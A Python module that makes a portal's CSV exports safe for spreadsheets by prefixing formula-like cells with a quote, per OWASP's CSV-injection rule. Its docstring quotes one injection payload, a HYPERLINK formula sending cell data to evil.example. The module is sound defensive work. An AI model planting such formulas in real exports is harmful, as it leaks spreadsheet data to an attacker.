"""CSV files the portal produces, safe to open in a spreadsheet.

Excel, LibreOffice and Google Sheets read a cell that starts with `=`, `+`, `-` or `@` as a
formula (and some skip a leading tab or carriage return first), so a company named
`=HYPERLINK("https://evil.example/?"&A1, "Open")` would run in the spreadsheet of the staff
member who opened the export. Such text gets a leading single quote (OWASP's rule for CSV
injection), which makes the spreadsheet show it as text. Numbers are written as they are.
"""

import csv
import io
import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A signed figure we format ourselves ("-3", "+200%") cannot hold a formula: it stays a number.
_SIGNED_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?%?")


def safe_cell(value: object) -> object:
    """`value`, or text a spreadsheet would run as a formula with a quote before it."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_STARTS)
        and not _SIGNED_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


def csv_text(rows: Iterable[Iterable[object]]) -> str:
    """`rows` as CSV text, every cell made safe: the one way the portal writes CSV."""
    out = io.StringIO()
    csv.writer(out).writerows([safe_cell(cell) for cell in row] for row in rows)
    return out.getvalue()
